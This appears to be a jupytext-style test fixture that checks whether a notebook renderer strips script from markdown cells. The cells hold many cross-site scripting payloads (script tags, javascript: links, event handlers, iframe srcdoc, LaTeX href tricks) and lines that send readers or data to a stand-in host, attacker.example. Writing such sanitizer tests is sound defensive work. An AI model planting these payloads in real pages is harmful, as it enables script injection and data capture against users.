"""Puts scripts into text cells: raw HTML, links, pictures, formulas, and a text answer."""

CLASS = "through the notebook, the web and the archive"
EXPECT = "no points"
SEEN = "text cells follow"
BASE = "release"

# %% [markdown] why
# <script>alert(1)</script> [click](javascript:alert(2)) ![x](http://attacker.example/pixel.png "onerror=alert(3)")

# %% [insert-markdown-after] imports
# <img src=x onerror="alert(4)"> <svg/onload=alert(5)> <a href="JaVaScRiPt:alert(6)">x</a> <iframe srcdoc="<script>alert(7)</script>">
#
# [a](data:text/html;base64,PHNjcmlwdD4=) [b](vbscript:x) [c]( javascript:alert(8)) [d][e] <javascript:alert(9)>
#
# [e]: javascript:alert(10)
#
# $\href{javascript:alert(11)}{x}$ $\class{x" onclick="alert(12)}{y}$ `</code><script>alert(13)</script>`
#
# ```<script>
# </pre><script>alert(14)</script>
# ```
#
# <style>@import "http://attacker.example/x.css"; body { display: none }</style><base href="http://attacker.example/">
# <form action="http://attacker.example/"><input name="x"></form><meta http-equiv="refresh" content="0;url=http://attacker.example">

# %% [append]
print("text cells follow")
